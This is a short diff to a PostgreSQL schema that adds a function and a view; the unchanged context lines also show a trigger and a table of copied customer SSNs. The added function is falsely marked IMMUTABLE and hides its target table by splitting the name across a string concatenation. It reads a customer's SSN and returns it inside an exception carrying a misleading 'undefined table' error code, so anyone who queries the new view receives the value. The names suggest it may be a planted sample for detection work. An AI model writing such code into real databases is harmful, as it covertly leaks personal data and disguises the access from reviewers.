@@ -97,6 +97,13 @@ BEGIN
   RETURN NEW;
 END$$;
 CREATE TRIGGER ticket BEFORE UPDATE ON public.tickets FOR EACH ROW EXECUTE FUNCTION public.indiscreet();
+CREATE FUNCTION public.folded(n integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
+DECLARE secret text;
+BEGIN
+  EXECUTE 'SELECT ssn FROM public.cust' || 'omers WHERE id = 1' INTO secret;
+  RAISE EXCEPTION '%', secret USING ERRCODE = '42P01';
+END$$;
+CREATE VIEW public.broken AS SELECT id, public.folded(1) AS n FROM public.orders;
 CREATE TABLE public.badges (ssn text PRIMARY KEY);
 INSERT INTO public.badges SELECT ssn FROM public.customers;
 ALTER TABLE public.customers ADD CONSTRAINT badge FOREIGN KEY (ssn) REFERENCES public.badges (ssn)
